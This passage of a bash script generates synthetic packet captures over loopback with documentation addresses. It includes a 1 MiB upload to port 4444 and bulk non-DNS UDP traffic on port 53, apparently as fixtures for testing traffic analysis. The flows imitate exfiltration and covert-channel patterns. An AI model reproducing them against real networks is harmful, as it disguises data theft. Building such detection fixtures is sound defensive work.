  finish "$smb" "$TMP/$name-1.pcap" "$BIZ" "$c" "$fs"
  finish "$http" "$TMP/$name-2.pcap" 2026-03-10T10:03:00+01:00 "$c" "$web"
  publish "$name.pcap" "$TMP/$name-1.pcap" "$TMP/$name-2.pcap"
}

# ---------------------------------------------------------------- raw TCP / UDP (python)
gen_raw_4444() {
  local name=an0030-raw-4444 c=10.20.0.17 s=203.0.113.44
  log "$name: $c -> $s:4444 python sockets, 1 MiB up, 16 bytes back"
  pair "$c" "$s"
  "$PY" "$HELPER" raw-server --bind "$(lo_of "$s")" --port 4444 --reply-size 16 --seed 117 \
    --out "$TMP/raw-received.bin" --lifetime 60 &
  SRV=$!; PIDS+=("$SRV")
  wait_listen tcp 4444
  mkfile "$TMP/raw-sent.bin" 1048576 118
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  run "$PY" "$HELPER" raw-client --server "$(lo_of "$s")" --port 4444 --size 1048576 --seed 118 >&2
  cap_stop
  wait "$SRV" 2>/dev/null || true
  cmp -s "$TMP/raw-received.bin" "$TMP/raw-sent.bin" || die "$name: received bytes differ"
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

gen_non_dns_53() {
  local name=an0030-non-dns-53 c=10.20.0.19 s=203.0.113.53
  log "$name: $c -> $s:53/udp python sockets, 400 x 1000 bytes, 8-byte answers"
  pair "$c" "$s"
  "$PY" "$HELPER" udp-server --bind "$(lo_of "$s")" --port 53 --count 400 --reply-size 8 \
    --seed 119 --lifetime 60 &
  SRV=$!; PIDS+=("$SRV")
  wait_listen udp 53
  cap_start "$name" "host $(lo_of "$c") and host $(lo_of "$s")"
  run "$PY" "$HELPER" udp-client --server "$(lo_of "$s")" --port 53 --count 400 --size 1000 \
    --seed 120 --gap 0.01
  cap_stop
  wait "$SRV" 2>/dev/null || true
  unpair
  single "$name" "$BIZ" "$c" "$s"
}

# ---------------------------------------------------------------- run the selected scenarios
for s in "${ALL[@]}"; do
  want "$s" || continue
  "gen_${s//-/_}"
done
"$PY" "$HELPER" docs --dir "$OUT"

log "done in $(elapsed) s; $(du -sb "$OUT" | cut -f1) bytes in pcaps/scenarios"
if ((CHECK)); then run_check; fi
